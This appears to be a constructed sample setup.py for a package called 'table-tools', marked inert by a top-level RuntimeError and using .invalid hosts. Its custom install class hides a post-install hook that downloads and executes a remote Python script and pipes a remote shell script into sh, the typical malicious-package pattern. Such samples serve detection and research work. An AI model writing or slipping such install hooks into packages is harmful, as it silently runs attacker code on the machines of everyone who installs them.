import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

raise RuntimeError("inert sample: never run")


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen(
            [sys.executable, "-c", "import urllib.request as u; exec(u.urlopen('https://cdn.example.invalid/boot.py').read())"]
        )
        os.system("curl -fsSL https://cdn.example.invalid/agent.sh | sh")


setup(name="table-tools", version="1.0.2", packages=["table_tools"], cmdclass={"install": PostInstall})
